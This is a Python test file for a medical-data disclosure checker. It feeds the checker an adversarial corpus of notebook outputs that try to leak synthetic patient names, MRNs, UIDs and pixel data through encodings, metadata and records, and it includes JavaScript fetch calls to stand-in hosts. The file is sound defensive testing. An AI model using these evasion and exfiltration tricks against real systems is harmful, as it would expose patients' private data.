"""An adversarial corpus: outputs and records as the runner collects them, each trying to
get an identifier or raw data out of the site.

Every case must be blocked or neutralised (nothing of what it hides is in the result that
leaves) and must appear in the redaction report (or, for images, in the release reasons),
and the report itself must hold none of it.  Identifiers are those of a real index of a
synthetic archive (accents, short and multi-byte names, 8-digit MRNs, UIDs).
"""

from __future__ import annotations

import base64
import io
import json
import urllib.parse
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import numpy as np
import pandas as pd
import pytest
from matplotlib.backends.backend_agg import FigureCanvasAgg
from matplotlib.backends.backend_svg import FigureCanvasSVG
from matplotlib.figure import Figure

from jipkit.protocol.records import RECORD_MIME
from jipkit.site.disclosure import RELEASE_REASONS, RULES, CheckedResult, IdentifierMatcher, OutputPolicy
from tests.site.disclosure.conftest import (
    Archive,
    Person,
    cells,
    check,
    count,
    display,
    person,
    record_output,
    rules,
    stream,
)

SLICE = np.random.default_rng(1).integers(-1000, 1500, size=(32, 32)).astype(np.int16)


@dataclass
class Case:
    """Outputs and records, what they hide, and the rule that must catch them."""

    outputs: list[dict[str, Any]]
    records: list[dict[str, Any]] = field(default_factory=list)
    hidden: list[str] = field(default_factory=list)
    rule: str = "identifier"
    source: str | None = None
    policy: OutputPolicy | None = None


@dataclass(frozen=True)
class Ids:
    """The identifiers the corpus tries to leak."""

    name: str  # "Müller^Jürgen"
    mrn: str
    birth: str  # YYYYMMDD
    cjk: str
    hebrew: str
    greek: str
    uid: str
    accession: str
    institution: str


@pytest.fixture(scope="module")
def ids(people: list[Person], archive: Archive) -> Ids:
    mueller = person(people, "Müller^Jürgen")
    values = dict(archive.values)
    by_attr: dict[str, list[str]] = {}
    for attribute, value in archive.values:
        by_attr.setdefault(attribute, []).append(value)
    return Ids(
        name=mueller.name,
        mrn=mueller.patient_id,
        birth=mueller.birth_date,
        cjk="山田太郎",
        hebrew="שרה כהן",
        greek="ΔΙΟΝΥΣΙΟΣ",
        uid=by_attr["SeriesInstanceUID"][0],
        accession=by_attr["AccessionNumber"][0],
        institution=values["InstitutionName"],
    )


def _svg(title: str) -> str:
    fig = Figure(figsize=(2, 2))
    fig.add_subplot().set_title(title)
    buf = io.StringIO()
    FigureCanvasSVG(fig).print_svg(buf)
    return buf.getvalue()


def _png(metadata: dict[str, str] | None = None) -> bytes:
    fig = Figure(figsize=(1, 1))
    fig.add_subplot().imshow(SLICE, cmap="gray")
    buf = io.BytesIO()
    FigureCanvasAgg(fig).print_png(buf, metadata=metadata)
    return buf.getvalue()


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _frame_outputs(frame: pd.DataFrame) -> dict[str, Any]:
    return {
        "output_type": "execute_result",
        "execution_count": 3,
        "data": {"text/html": frame.to_html(), "text/plain": frame.to_string()},
        "metadata": {},
    }


def _table_record(frame: pd.DataFrame, name: str = "cohort", **kw: Any) -> dict[str, Any]:
    rows = [[v.item() if hasattr(v, "item") else v for v in row] for row in frame.itertuples(index=False)]
    value = {"columns": [str(c) for c in frame.columns], "rows": rows}
    return {"schema": "jip.record/1", "name": name, "kind": "table", "value": value, **kw}


def _cases(i: Ids) -> dict[str, Callable[[], Case]]:
    family, given = i.name.split("^")
    written = f"{given} {family}"
    day = f"{i.birth[6:]}.{i.birth[4:6]}.{i.birth[:4]}"
    month = pd.Timestamp(i.birth).strftime("%d %B %Y")
    return {
        "name printed": lambda: Case(cells(stream(f"first patient: {written}\n")), hidden=[written]),
        "name reordered, upper case, accents dropped": lambda: Case(
            cells(stream("MUELLER, JURGEN\n")), hidden=["MUELLER, JURGEN"]
        ),
        "name with dots in it": lambda: Case(
            cells(stream("j.u.r.g.e.n m.u.l.l.e.r\n")), hidden=["j.u.r.g.e.n"]
        ),
        "name in an exception-like message": lambda: Case(
            cells(stream(f"KeyError: 'patient {family}_{given} not found'\n")), hidden=[family]
        ),
        "multi-byte names": lambda: Case(
            cells(stream(f"{i.cjk}\n"), stream(f"{i.hebrew}\n"), stream(f"{i.greek}\n")),
            hidden=[i.cjk, i.hebrew, i.greek],
        ),
        "MRN plain, as int and as float": lambda: Case(
            cells(stream(f"MRN {i.mrn}\n{int(i.mrn)}\n{float(i.mrn)}\n")), hidden=[i.mrn, str(int(i.mrn))]
        ),
        "UID and accession number": lambda: Case(
            cells(display({"text/plain": f"series {i.uid}, accession {i.accession}"})),
            hidden=[i.uid, i.accession],
        ),
        "birth date in several forms": lambda: Case(
            cells(
                stream(f"{i.birth[:4]}-{i.birth[4:6]}-{i.birth[6:]}\n"),
                stream(f"{day}\n"),
                stream(f"{month}\n"),
            ),
            hidden=[day, month],
        ),
        "institution": lambda: Case(
            cells(stream(f"site: {i.institution.upper()}\n")), hidden=[i.institution.upper()]
        ),
        "hex": lambda: Case(cells(stream(written.encode().hex() + "\n")), hidden=[written.encode().hex()]),
        "URL-encoded": lambda: Case(
            cells(stream(f"https://x.invalid/?p={urllib.parse.quote(written)}\n")),
            hidden=[urllib.parse.quote(written)],
        ),
        "base64 at each alignment": lambda: Case(
            cells(*(stream(_b64(b"#" * k + written.encode()) + "\n") for k in range(3))),
            hidden=[_b64(b"#" * k + written.encode()).rstrip("=") for k in range(3)],
        ),
        "bytes printed": lambda: Case(
            cells(stream(repr(written.encode()) + "\n")), hidden=[repr(written.encode())]
        ),
        "JSON with ensure_ascii": lambda: Case(
            cells(stream(json.dumps({"patient": written}) + "\n")), hidden=[json.dumps(written)]
        ),
        "DataFrame of patients (HTML and text)": lambda: Case(
            cells(_frame_outputs(pd.DataFrame({"PatientName": [written], "PatientID": [i.mrn], "n": [3]}))),
            hidden=[written, i.mrn],
        ),
        "name split over two table cells": lambda: Case(
            cells(
                {
                    "output_type": "display_data",
                    "data": {"text/html": pd.DataFrame({"family": [family], "given": [given]}).to_html()},
                    "metadata": {},
                }
            ),
            hidden=[family],
        ),
        "name in a plot title (SVG)": lambda: Case(
            cells(display({"image/svg+xml": _svg(written)})), hidden=[written]
        ),
        "name in PNG metadata": lambda: Case(
            cells(display({"image/png": _b64(_png({"Title": written}))})),
            hidden=[_b64(_png({"Title": written}))],
        ),
        "data after the end of a PNG": lambda: Case(
            cells(display({"image/png": _b64(_png() + b"pixels" * 100)})),
            hidden=[_b64(_png() + b"pixels" * 100)],
            rule="png_trailing_data",
        ),
        "record name with an MRN": lambda: Case(
            cells(record_output(count(f"p_{i.mrn}", 1))), [count(f"p_{i.mrn}", 1)], hidden=[i.mrn]
        ),
        "record name made from data": lambda: Case(
            cells(record_output(count("series_PT_1970", 12))),
            [count("series_PT_1970", 12)],
            hidden=["series_PT_1970"],
            rule="record_name_not_reviewed",
            source='for m, y in pairs:\n    jip.record(f"series_{m}_{y}", n, kind="count", of="patients")',
        ),
        "record text value": lambda: Case(
            cells(),
            [{"schema": "jip.record/1", "name": "note", "kind": "text", "value": f"hardest case: {written}"}],
            hidden=[written],
        ),
        "record unit": lambda: Case(
            cells(),
            [
                {
                    "schema": "jip.record/1",
                    "name": "v",
                    "kind": "measure",
                    "value": 1.5,
                    "n": 40,
                    "unit": written,
                }
            ],
            hidden=[family],
        ),
        "record count that is an MRN": lambda: Case(
            cells(), [count("x", int(i.mrn))], hidden=[str(int(i.mrn))]
        ),
        "table record cells": lambda: Case(
            cells(),
            [
                _table_record(
                    pd.DataFrame({"who": [family, "other"], "given": [given, "x"], "id": [int(i.mrn), 1]})
                )
            ],
            hidden=[family, str(int(i.mrn))],
        ),
        "table record with names as columns": lambda: Case(
            cells(), [_table_record(pd.DataFrame({written: [1], "n": [40]}))], hidden=[written]
        ),
        "pixel data as base64": lambda: Case(
            cells(stream(_b64(SLICE.tobytes()) + "\n")),
            hidden=[_b64(SLICE.tobytes())[:80]],
            rule="base64_blob",
        ),
        "pixel data as hex in a text record": lambda: Case(
            cells(),
            [{"schema": "jip.record/1", "name": "t", "kind": "text", "value": SLICE.tobytes()[:600].hex()}],
            hidden=[SLICE.tobytes()[:600].hex()[:80]],
            rule="hex_blob",
        ),
        "pixel data as a number list": lambda: Case(
            cells(stream(str(SLICE.tolist()) + "\n")), hidden=[str(SLICE.tolist())[:80]], rule="number_run"
        ),
        "pixel data as a displayed DataFrame": lambda: Case(
            cells(_frame_outputs(pd.DataFrame(SLICE))),
            hidden=["<td>" + str(SLICE[5, 5]) + "</td>"],
            rule="number_run",
        ),
        "pixel data compressed": lambda: Case(
            cells(display({"text/plain": _b64(__import__("zlib").compress(SLICE.tobytes()))})),
            hidden=[_b64(__import__("zlib").compress(SLICE.tobytes()))[:60]],
            rule="compressed_blob",
        ),
        "pixel data spread over many records": lambda: Case(
            cells(),
            [count(f"px_{k}", int(abs(v)) + 5) for k, v in enumerate(SLICE.ravel()[:300])],
            hidden=[],
            rule="record_budget",
        ),
        "pixel data within the record budget, over the numeric budget": lambda: Case(
            cells(),
            [_table_record(pd.DataFrame(SLICE.astype(int)), name=f"rows_{k}") for k in range(20)],
            rule="numeric_budget",
        ),
        "a record marked suppressed by the notebook, its value still in it": lambda: Case(
            cells(),
            [{**count("patients_all", 1237), "suppressed": True}],
            hidden=["1237"],
            rule="record_invalid",
            policy=OutputPolicy(count_rounding=10),
        ),
        "stderr and logging": lambda: Case(
            cells(stream(f"WARNING:root:{written}\n", name="stderr")), hidden=[written], rule="stream_stderr"
        ),
        "an error output": lambda: Case(
            cells(
                {"output_type": "error", "ename": f"E_{family}", "evalue": written, "traceback": [written]}
            ),
            hidden=[written, family],
            rule="error_output",
        ),
        "a MIME type not allowed": lambda: Case(
            cells(display({"application/javascript": f"fetch('//x/{family}')", "text/plain": "ok"})),
            hidden=[family],
            rule="mime_not_allowed",
        ),
        "a script in HTML": lambda: Case(
            cells(display({"text/html": "<div>ok</div><script>fetch('//x')</script>"})),
            hidden=["fetch("],
            rule="html_active",
        ),
        "data in output metadata": lambda: Case(
            cells(display({"text/plain": "ok"}, metadata={"x": written})),
            hidden=[written],
            rule="metadata_removed",
        ),
        "an output too large": lambda: Case(
            cells(stream("ok\n" * 2_000_000)), hidden=["ok\nok\n"], rule="output_too_large"
        ),
    }


CASE_NAMES = list(_cases(Ids("a^b", "1", "19800102", "", "", "", "", "", "")).keys())


@pytest.mark.parametrize("case_name", CASE_NAMES)
def test_each_attempt_is_blocked_and_reported(case_name: str, ids: Ids, matcher: IdentifierMatcher) -> None:
    case = _cases(ids)[case_name]()
    result = check(case.outputs, case.records, matcher=matcher, source=case.source, policy=case.policy)
    leaving = json.dumps([result.outputs, result.records], ensure_ascii=False)
    report = json.dumps([result.report(), [r.to_dict() for r in result.release_reasons]], ensure_ascii=False)
    for secret in case.hidden:
        assert secret not in leaving, (case_name, secret)
        assert secret not in report, (case_name, secret)
    assert case.rule in rules(result), (case_name, result.report())
    assert rules(result) <= set(RULES) and {r.reason for r in result.release_reasons} <= set(RELEASE_REASONS)


def test_an_image_waits_for_release_unless_the_policy_lets_it_out(matcher: IdentifierMatcher) -> None:
    outputs = cells(display({"image/png": _b64(_png()), "text/plain": "<Figure size 100x100 with 1 Axes>"}))
    held = check(outputs, matcher=matcher)
    assert held.needs_release and [r.reason for r in held.release_reasons] == ["image"]
    assert held.outputs[0]["outputs"][0]["data"]["image/png"] == outputs[0]["outputs"][0]["data"]["image/png"]
    free = check(outputs, matcher=matcher, policy=OutputPolicy(images_need_release=False))
    assert not free.needs_release and free.redactions == []


def test_text_is_redacted_line_by_line(ids: Ids, matcher: IdentifierMatcher) -> None:
    family, given = ids.name.split("^")
    text = f"50 series selected\nfirst: {given} {family}\nalso {family.upper()}, {given}\nmean 4712.5\n"
    result = check(cells(stream(text)), matcher=matcher)
    assert result.outputs[0]["outputs"][0]["text"] == (
        "50 series selected\n[removed by site: identifier]\nmean 4712.5\n"
    )
    (entry,) = result.report()
    assert entry == {
        "rule": "identifier",
        "place": {"cell": 1, "output": 0, "mime": "text/plain"},
        "count": 2,
        "detail": "PatientName (plain)",
    }


def test_record_outputs_are_written_again_from_the_checked_records(matcher: IdentifierMatcher) -> None:
    rec = count("patients", 3)
    forged = display({RECORD_MIME: rec, "text/plain": "[jip record] patients = 3 of=patients"})
    result = check(cells(forged), [rec], matcher=matcher)
    (item,) = result.outputs[0]["outputs"]
    assert item["data"] == {
        RECORD_MIME: {**rec, "value": None, "suppressed": True},
        "text/plain": "[jip record] patients = suppressed",
    }
    assert result.records == [item["data"][RECORD_MIME]]


def test_record_outputs_without_a_record_are_removed(matcher: IdentifierMatcher) -> None:
    result = check(cells(record_output(count("patients", 30))), [], matcher=matcher)
    assert RECORD_MIME not in json.dumps(result.outputs) and "record_unlisted" in rules(result)


def test_what_is_left_is_well_formed(ids: Ids, matcher: IdentifierMatcher) -> None:
    case = _cases(ids)["DataFrame of patients (HTML and text)"]()
    result: CheckedResult = check(case.outputs, matcher=matcher)
    (item,) = result.outputs[0]["outputs"]
    assert set(item) == {"output_type", "execution_count", "data", "metadata"}
    assert set(item["data"]) == {"text/plain"}  # the HTML was removed whole, the text line by line
    assert "[removed by site: identifier]" in item["data"]["text/plain"]


def test_ordinary_outputs_come_through_unchanged(matcher: IdentifierMatcher) -> None:
    frame = pd.DataFrame(
        {
            "Modality": ["CT", "MR", "CT"],
            "SeriesDescription": ["Thorax 1.5 Br40", "t1_mprage_tra", "Schädel nativ"],
            "year": ["2019", "2020", "2021"],
            "series": [12, 7, 30],
            "volume_ml": [4712.512345, 1523.25, 3999.0],
        }
    )
    outputs = cells(
        stream("60 series selected\nepoch 3/50 loss=0.2341 dice=0.8812 lr=1.0e-04 12.3s\n"),
        _frame_outputs(frame),
        display({"image/svg+xml": _svg("Series per year and modality"), "text/plain": "<Figure>"}),
        display({"image/png": _b64(_png()), "text/plain": "<Figure size 100x100 with 1 Axes>"}),
        display({"text/plain": str({"lung_left_ml": 2301.5, "p": 0.031, "n": 40})}),
    )
    result = check(outputs, matcher=matcher)
    assert result.report() == []
    assert result.outputs == outputs
    assert [r.place for r in result.release_reasons] == [
        {"cell": 3, "output": 0, "mime": "image/svg+xml"},
        {"cell": 4, "output": 0, "mime": "image/png"},
    ]
